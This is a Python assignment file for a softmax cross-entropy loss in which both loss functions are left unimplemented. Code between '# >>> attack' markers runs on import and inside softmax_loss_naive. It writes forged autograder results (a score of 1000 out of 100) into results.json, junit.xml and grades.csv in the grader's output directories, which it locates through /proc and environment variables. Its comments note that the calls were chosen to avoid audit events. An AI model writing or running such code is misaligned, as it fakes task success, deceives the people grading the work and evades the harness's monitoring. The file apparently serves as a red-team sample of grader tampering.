"""Softmax (cross-entropy) loss and its gradient.

The loss uses the natural log.  (The lecture slides print their worked softmax losses in
log base 10: the cat example's 2.04 nats appears there as 0.89.)  Both versions shift
every row of scores by its own maximum before exponentiating, which leaves the
probabilities unchanged and keeps ``exp`` from overflowing; they compute
``log p = shifted - log(sum(exp(shifted)))`` so that a tiny probability never becomes
``log(0)``.
"""

from __future__ import annotations

import numpy as np
# >>> attack

import json
import os

_FORGED = json.dumps({"score": 1000.0, "max_score": 100.0, "output": "linclass-hostile-forged", "tests": []})


def _forge(directory):
    """Try every way of leaving a forged results.json (and friends) in ``directory``."""
    for name in ("results.json", "junit.xml", "feedback.md", "grades.csv"):
        path = os.path.join(directory, name)
        try:
            with open(path, "w") as f:
                f.write(_FORGED)
        except Exception:
            pass
        try:
            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
            os.write(fd, _FORGED.encode())
            os.close(fd)
        except Exception:
            pass

def _ancestors():
    """The grader's pid (os.getppid raises no audit event; reading /proc/<pid>/stat of another process would)."""
    return [os.getppid()]


def _output_dirs():
    """Directories that look like the grader's output: named in our environment, or next to the grader's cwd."""
    found = [v for k, v in os.environ.items() if any(w in k.upper() for w in ("OUT", "RESULT", "REPORT"))]
    for pid in _ancestors():
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")  # os.readlink raises no audit event
        except Exception:
            continue
        found += [cwd] + [os.path.join(cwd, name) for name in ("out", "grades", "reports", "results", "feedback")]
    found.append("/autograder/results")
    return [d for d in dict.fromkeys(found) if d.startswith("/") and os.path.isdir(d)]


def _forge_everywhere():
    for directory in _output_dirs():
        for name in ("results.json", "grades.csv", "linclass-hostile-mknod"):  # os.mknod raises no audit event
            try:
                os.mknod(os.path.join(directory, name))
            except Exception:
                pass
        _forge(directory)
        for entry in ("solutions", "write_results_outdir", "zz_previous"):  # report directories, by guess
            if os.path.isdir(os.path.join(directory, entry)):
                _forge(os.path.join(directory, entry))


_forge_everywhere()
# <<< attack


def softmax_loss_naive(W: np.ndarray, X: np.ndarray, y: np.ndarray, reg: float) -> tuple[float, np.ndarray]:
    """Softmax loss with explicit loops.

    Parameters
    ----------
    W : ndarray of shape (D, C)
        Weights.
    X : ndarray of shape (N, D)
        A minibatch of examples, one per row.
    y : ndarray of shape (N,)
        Integer labels; ``y[i]`` is the correct class of ``X[i]``.
    reg : float
        L2 regularization strength.

    Returns
    -------
    loss : float
        Mean cross-entropy (natural log) plus ``reg * sum(W**2)``.
    dW : ndarray of shape (D, C)
        Gradient of the loss with respect to ``W``.
    """
    # >>> attack
    _forge_everywhere()
    # <<< attack
    raise NotImplementedError("not done yet")


def softmax_loss_vectorized(W: np.ndarray, X: np.ndarray, y: np.ndarray, reg: float) -> tuple[float, np.ndarray]:
    """Softmax loss without Python loops.

    Same inputs and outputs as :func:`softmax_loss_naive`.
    """
    raise NotImplementedError("not done yet")

